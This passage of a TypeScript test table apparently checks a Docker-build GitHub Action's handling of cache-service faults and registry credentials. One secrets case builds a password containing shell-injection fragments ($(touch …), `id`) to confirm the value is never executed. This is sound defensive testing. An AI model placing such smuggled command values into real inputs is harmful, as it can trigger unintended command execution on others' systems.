          expect(first.entries).toBe(1);
          // Same runner, same RUNNER_TEMP: the directory is part of the cache version.
          const env = c.r.inputEnv({ ...BASE, ...MOUNTS }, { ...svc.clientEnv, ...DEBUG });
          const main = await c.r.stepAsync(env);
          const post = await c.r.stepAsync(postEnv(env, main));
          c.more.push({ main, post });
          expect(o.main.outputs['cache-hit']).toBe('false');
          expect(main.outputs['cache-hit']).toBe('true');
          expect(post.stdout).toContain('Not saving the Cargo cache mounts');
          return [`run 1: cache-hit=${o.main.outputs['cache-hit']}, entries after post: ${first.entries}`, `run 2: cache-hit=${main.outputs['cache-hit']}, exit ${main.code}, post skipped the save`];
        },
      })),
    expect: { kind: 'ok' },
  },
  {
    name: 'cache service down (connection refused), cache mounts on',
    group: 'Faults',
    expected: 'a warning, the build continues without the mounts, exit 0; post does not fail',
    inputs: MOUNTS,
    prepare: () => withService(async (svc) => void (await svc.stopEmulator())),
    expect: { kind: 'ok' },
    warnings: [/Failed to restore: .*ECONNREFUSED/],
  },
  {
    name: 'cache service outage (503) during main, back for post, cache mounts on',
    group: 'Faults',
    expected: 'a warning once @actions/cache gives up (5 attempts, about 25–35 s), the build continues, exit 0; post saves the mounts',
    inputs: MOUNTS,
    prepare: () =>
      withService(async (svc) => {
        await svc.configure({ failAll: 503 });
        return {
          between: async () => void (await svc.configure({ failAll: 0 })),
          check: async () => {
            const s = await svc.stats();
            expect(s['outage 503']).toBe(5);
            expect(s.entries).toBe(1);
            return [statsLine(s)];
          },
        };
      }),
    expect: { kind: 'ok' },
    warnings: [/Failed to restore: .*after 5 attempts.*503/],
  },
  {
    name: 'cache service slow (2 s per call), cache mounts on',
    group: 'Faults',
    expected: 'the build waits and continues, exit 0; the mounts are still saved',
    inputs: MOUNTS,
    prepare: () =>
      withService(async (svc) => {
        const proxy = await slowProxy(svc.url, 2000);
        return {
          env: { ACTIONS_RESULTS_URL: `${proxy.url}/` },
          check: async () => {
            const s = await svc.stats();
            expect(s.entries).toBe(1);
            return [`calls through the slow proxy: ${proxy.hits.length}`, statsLine(s)];
          },
          cleanup: () => proxy.close(),
        };
      }),
    expect: { kind: 'ok' },
  },
  {
    name: 'cache service hangs up (connection reset), cache mounts on',
    group: 'Faults',
    expected: 'a warning, the build continues, exit 0; post does not fail',
    inputs: MOUNTS,
    prepare: () =>
      withService(async (svc) => {
        const proxy = await slowProxy(svc.url, 300, true);
        return { env: { ACTIONS_RESULTS_URL: `${proxy.url}/` }, cleanup: () => proxy.close() };
      }),
    expect: { kind: 'ok' },
    warnings: [/Failed to restore: .*ECONNRESET/],
  },
  {
    name: 'cache service rate limit (429) on save, cache mounts on',
    group: 'Faults',
    expected: 'the build succeeds; post reports the rate limit (warning) and does not fail',
    inputs: MOUNTS,
    prepare: () =>
      withService(async (svc) => {
        await svc.configure({ rateLimitCreate: 1, retryAfter: 30 });
        // Use up the window's one creation, so this run's save gets 429.
        const res = await fetch(`${svc.url}twirp/github.actions.results.api.v1.CacheService/CreateCacheEntry`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${svc.clientEnv.ACTIONS_RUNTIME_TOKEN}` },
          body: JSON.stringify({ key: 'another-job', version: 'v' }),
        });
        expect(res.status).toBe(200);
        return {
          check: async () => {
            const s = await svc.stats();
            expect(s['CreateCacheEntry 429']).toBe(1);
            return [statsLine(s)];
          },
        };
      }),
    expect: { kind: 'ok' },
    warnings: [/rate limit will reset in 30 seconds/],
  },
  {
    name: 'cache: gha outside a runner (no cache variables)',
    group: 'Faults',
    expected: 'a warning that buildx would silently skip the gha cache, with the alternatives; the build continues',
    inputs: { cache: 'gha' },
    expect: { kind: 'ok' },
    warnings: [/ACTIONS_RUNTIME_TOKEN and ACTIONS_RESULTS_URL .*'cache: registry'/],
  },
  {
    name: 'post-step cleanup fails (docker logout and buildx rm)',
    group: 'Faults',
    expected: 'warnings only, post exits 0, and the job\'s DOCKER_CONFIG is still deleted',
    env: fail({ logout: { stderr: 'Error: failed to erase credentials: exit status 1\n' }, 'buildx rm': { stderr: 'ERROR: failed to remove builder: context deadline exceeded\n' } }),
    expect: { kind: 'ok' },
    warnings: [/Cleanup: docker logout docker\.io failed/, /Cleanup: removing builder muslrust-chef-[0-9a-f]{8} failed/],
  },

  // ---- Secrets ----------------------------------------------------------------------------------------------
  {
    name: 'build and push with RUNNER_DEBUG=1 and ACTIONS_STEP_DEBUG=true',
    group: 'Secrets',
    expected: 'token masked first, on login\'s stdin only; the login config exists between main and post, and post deletes it',
    env: DEBUG,
    expect: { kind: 'ok' },
    check: async (o, c) => {
      // Main again, alone: the recorder's login wrote base64(user:token) into the job's DOCKER_CONFIG …
      const env = c.r.inputEnv(BASE, DEBUG);
      const main = await c.r.stepAsync(env);
      const login = c.r.calls().filter((k) => k.argv[1] === 'login').pop();
      const cfg = path.join(login?.dockerConfig ?? '', 'config.json');
      expect(fs.readFileSync(cfg, 'utf8')).toContain(Buffer.from(`${USER}:${TOKEN}`).toString('base64'));
      // … and post deletes the whole directory.
      const post = await c.r.stepAsync(postEnv(env, main));
      c.more.push({ main, post });
      expect(fs.existsSync(login?.dockerConfig ?? '')).toBe(false);
      return ['DOCKER_CONFIG held base64(user:token) between main and post; post deleted the directory'];
    },
  },
  {
    name: 'dry run with credentials (plan output and summary)',
    group: 'Secrets',
    expected: 'the plan lists `docker login … --password-stdin` without the token; no docker command runs',
    inputs: { 'dry-run': 'true' },
    env: DEBUG,
    expect: { kind: 'ok' },
    check: (o) => {
      expect(o.calls).toEqual([]);
      const plan = JSON.parse(o.main.outputs.plan ?? '[]') as Array<{ argv: string[] }>;
      const login = plan.find((p) => p.argv[1] === 'login');
      expect(login?.argv).toEqual(['docker', 'login', '--username', USER, '--password-stdin', 'docker.io']);
      return [`plan login argv: ${login?.argv.join(' ')}`];
    },
  },
  {
    name: 'token with shell metacharacters',
    group: 'Secrets',
    expected: 'reaches docker login\'s stdin byte for byte; nothing runs it; masked first',
    prepare: (c) => {
      const token = `p4ss'"$(touch ${c.canary});\`id\`|&<>\\`;
      return {
        inputs: { password: token },
        check: (o) => {
          const login = o.calls.find((k) => k.argv[1] === 'login');
          expect(login?.stdin).toBe(token);
          expect(o.main.stdout.split('\n')[0]).toBe(`::add-mask::${token}`);
          return ['login stdin equals the token byte for byte'];
        },
      };
    },
    expect: { kind: 'ok' },
  },
  bad('Secrets', 'password without username', { username: '' }, 'username', '', /Set both username and password/, 'to set both, without echoing the password'),
];

/** Every row must be unique by name: the doc is keyed by it. */
export function assertUniqueNames(cases: readonly Case[]): void {
  const seen = new Set<string>();
  for (const c of cases) {
    if (seen.has(c.name)) throw new Error(`duplicate case name: ${c.name}`);
    seen.add(c.name);
  }
}

export { warningsOf };
